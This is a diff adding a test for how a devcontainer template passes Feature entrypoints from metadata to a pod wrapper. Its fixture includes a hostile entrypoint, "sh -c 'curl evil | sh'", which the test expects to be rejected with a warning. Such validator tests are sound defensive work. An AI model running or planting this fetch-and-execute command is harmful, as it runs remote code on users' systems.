@@ -144,6 +144,30 @@ CASES.hostRequirementsMemory = {
   configuration: { image: "node:20", hostRequirements: { memory: "4gb" } },
   metadata: hostMemory(4 * GIB),
 };
+/** A desktop and sshd image: the Features' label entries name their entrypoints. */
+CASES.featureEntrypoints = {
+  configuration: {
+    image: "mcr.microsoft.com/devcontainers/base:bookworm",
+    features: {
+      "ghcr.io/devcontainers/features/desktop-lite:1": {},
+      "ghcr.io/devcontainers/features/sshd:1": {},
+    },
+    forwardPorts: [6080],
+  },
+  metadata: {
+    metadata_json: JSON.stringify([
+      { id: "ghcr.io/devcontainers/features/common-utils:2" },
+      {
+        id: "ghcr.io/devcontainers/features/desktop-lite:1",
+        entrypoint: "/usr/local/share/desktop-init.sh",
+        containerEnv: { DISPLAY: ":1" },
+      },
+      { id: "ghcr.io/devcontainers/features/sshd:1", entrypoint: "/usr/local/share/ssh-init.sh" },
+      { id: "example.com/hostile:1", entrypoint: "sh -c 'curl evil | sh'" },
+      { remoteUser: "vscode" },
+    ]),
+  },
+};
 type CaseName = keyof typeof CASES;
 
 describe("devcontainer template: real-world fidelity (issue 44)", () => {
@@ -248,6 +272,22 @@ describe("devcontainer template: real-world fidelity (issue 44)", () => {
       expect(plans.hostRequirementsMemory.pod.limits.memory).toBe(String(4 * GIB));
       for (const name of ["runArgsMemory", "runArgsSmallMemory"])
         expect(plans[name].warnings).toEqual([]);
+    });
+  });
+
+  describe("4. Feature entrypoints", () => {
+    it("hands each installed Feature's entrypoint from the metadata label to the pod's wrapper; one that is not a plain path is a warning naming it", () => {
+      const plan = plans.featureEntrypoints;
+      expect(plan.pod.env.DC_FEATURE_ENTRYPOINTS).toBe(
+        [
+          "ghcr.io/devcontainers/features/desktop-lite:1\t/usr/local/share/desktop-init.sh",
+          "ghcr.io/devcontainers/features/sshd:1\t/usr/local/share/ssh-init.sh",
+        ].join("\n"),
+      );
+      expect(plan.warnings).toEqual([
+        'Feature "example.com/hostile:1": its entrypoint "sh -c \'curl evil | sh\'" is not run (an entrypoint must be an absolute path of letters, digits and . _ / + -).',
+      ]);
+      expect(plans.probeUnset.pod.env.DC_FEATURE_ENTRYPOINTS).toBe("");
     });
   });
 
